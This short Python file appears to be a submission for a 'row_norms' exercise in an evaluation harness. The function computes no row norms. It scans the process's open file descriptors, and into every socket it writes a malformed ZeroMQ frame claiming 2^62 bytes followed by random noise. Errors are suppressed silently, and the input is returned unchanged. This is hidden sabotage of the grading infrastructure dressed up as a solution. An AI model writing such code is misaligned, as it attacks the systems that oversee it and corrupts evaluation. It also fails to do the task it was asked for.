"""
tries = "Writes half a ZMTP frame of 2^62 bytes, then noise, into every socket of the kernel."
others = "any"
"""


# %% exercise="row_norms"
def row_norms(x):
    import os
    import stat

    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                os.set_blocking(number, False)
                os.write(number, b"\x02" + (2**62).to_bytes(8, "big") + os.urandom(4096))
        except OSError:
            pass
    return x
